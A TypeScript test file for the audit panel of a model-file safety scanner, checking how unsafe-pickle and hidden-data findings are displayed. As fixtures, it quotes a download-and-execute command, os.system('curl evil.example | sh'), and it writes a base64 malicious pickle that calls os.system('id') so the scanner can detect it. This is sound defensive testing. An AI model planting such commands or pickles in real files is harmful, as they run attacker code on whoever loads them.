import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EngineServer } from '../../src/engine/server';
import { HANDLERS } from '../../src/engine/handlers';
import { SAFETY_CHECKS, safetyConcern } from '../../src/protocol/file-safety';
import { FormatSchema } from '../../src/protocol/scan';
import type { FromEngine } from '../../src/protocol/rpc';
import { inTemporaryFolder } from '../support/jobs';
import { ROOT } from '../support/paths';
import { axe } from '../webview/checks';
import * as fixtures from '../webview/fixtures';
import { CHROMIUM, Harness, hasChromium } from '../webview/harness';
import type { ThemeName } from '../webview/themes';

const SHOTS = path.join(ROOT, 'out/webview');
const THEME_NAMES: readonly ThemeName[] = ['dark', 'light', 'high-contrast'];
const SYSTEM_CALL =
  "Loading this file with torch.load imports 'os' and calls os.system('curl evil.example | sh').";

const pickled = fixtures.auditFrom(
  [fixtures.scoredLayer('conv1', [0.2, 0.3, 0.25, 0.4])],
  {
    path: '/home/ada/models/resnet.pth',
    format: 'pytorch',
    producer: 'PyTorch checkpoint',
    architecture: 'ResNet (basic blocks 2-2-2-2, CIFAR stem)',
  },
  [
    {
      id: 'pickle-unsafe-global',
      level: 'error',
      message: SYSTEM_CALL,
      location: { member: 'archive/data.pkl', offset: 25 },
    },
    {
      id: 'zip-hidden-data',
      level: 'warning',
      message: '17 bytes lie between members.',
      location: { offset: 900 },
    },
    { id: 'uclc-outliers', level: 'note', message: '1 channel of 4 lies above mean + 3·std of its layer.' },
  ],
);

const TITLE = hasChromium
  ? 'file safety in the audit panel'
  : `file safety in the audit panel (skipped: there is no Chromium at ${CHROMIUM})`;

describe.skipIf(!hasChromium)(TITLE, () => {
  let harness: Harness;
  beforeAll(async () => {
    harness = await Harness.start();
    mkdirSync(SHOTS, { recursive: true });
  });
  afterAll(() => harness.stop());

  it.each(THEME_NAMES)('shows calls and the container apart from other findings (%s)', async (theme) => {
    const panel = await harness.open('audit', { theme, bypassCsp: true });
    const { page } = panel;
    await panel.send(fixtures.fileMessage({ name: 'resnet.pth' }), fixtures.doneMessage(pickled));
    const rows = (selector: string) => page.locator(`${selector} tbody tr`).allTextContents();
    const [code, file, ...more] = await rows('#file-safety');
    expect(more).toEqual([]);
    expect(code).toContain(SYSTEM_CALL);
    expect(code).toContain('archive/data.pkl, byte 25');
    expect(file).toContain('17 bytes lie between members.');
    expect(await rows('#findings')).toHaveLength(1);
    expect(await page.locator('#summary .notice-error').textContent()).toContain('Do not load it');
    expect(await page.locator('#file-safety').textContent()).toContain('executed nothing');
    await page.locator('#file-safety').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(SHOTS, `${theme}-file-safety.png`) });
    expect(await axe(page)).toEqual([]);
    expect(panel.faults).toEqual([]);
    await panel.close();
  });

  it('says what was checked where there is nothing to report', async () => {
    const panel = await harness.open('audit');
    const audit = fixtures.auditFrom([fixtures.scoredLayer('conv1', [0.2, 0.3])], { format: 'safetensors' });
    await panel.send(fixtures.fileMessage(), fixtures.doneMessage(audit));
    const shown = await panel.page.locator('#file-safety').textContent();
    expect(shown).toContain('nothing in it that a loader would execute');
    expect(shown).toContain('Nothing odd was found.');
    expect(shown).not.toMatch(/\bclean\b|\bsafe\b(?!t)/i);
    await panel.close();
  });

  it('shows what was found before a file broke off', () =>
    inTemporaryFolder(async (folder) => {
      // os.system('id'), and no end.
      const broken = path.join(folder, 'broken.pth');
      writeFileSync(broken, Buffer.from('gAJjb3MKc3lzdGVtCihYAgAAAGlkdFI=', 'base64'));
      const sent: FromEngine[] = [];
      const server = new EngineServer(
        HANDLERS,
        (message) => void sent.push(message),
        () => undefined,
      );
      server.receive({ kind: 'request', id: 1, method: 'scan', params: { path: broken, u: 3 } });
      await expect.poll(() => sent.find(({ kind }) => kind === 'err'), { timeout: 15_000 }).toBeDefined();
      const answer = sent.find((message) => message.kind === 'err')!;
      expect(answer.error.findings!.map(({ id }) => id)).toContain('pickle-unsafe-global');
      const panel = await harness.open('audit');
      await panel.send(fixtures.fileMessage(), {
        kind: 'scan',
        scan: { state: 'failed', error: answer.error },
      });
      const shown = await panel.page.locator('#file-safety').textContent();
      expect(shown).toContain('could not be read to its end');
      expect(shown).toContain("os.system('id')");
      expect(panel.faults).toEqual([]);
      await panel.close();
    }));
});

describe('every finding about a file', () => {
  const ids = new Set(
    readdirSync(path.join(ROOT, 'src/model'), { recursive: true, encoding: 'utf8' })
      .filter((name) => name.endsWith('.ts'))
      .flatMap((name) => [
        ...readFileSync(path.join(ROOT, 'src/model', name), 'utf8').matchAll(/\bid: '([a-z0-9-]+)'/g),
      ])
      .map(([, id]) => id!),
  );

  it('has its place in the panel', () => {
    const others = [...ids].filter((id) => safetyConcern({ id }) === null);
    expect(others.sort()).toEqual(['checkpoint-other-tensors', 'made-by-scour']);
    expect(ids.size).toBeGreaterThan(30);
  });

  it('has its checks named for every format', () => {
    expect(Object.keys(SAFETY_CHECKS).sort()).toEqual([...FormatSchema.options].sort());
  });
});
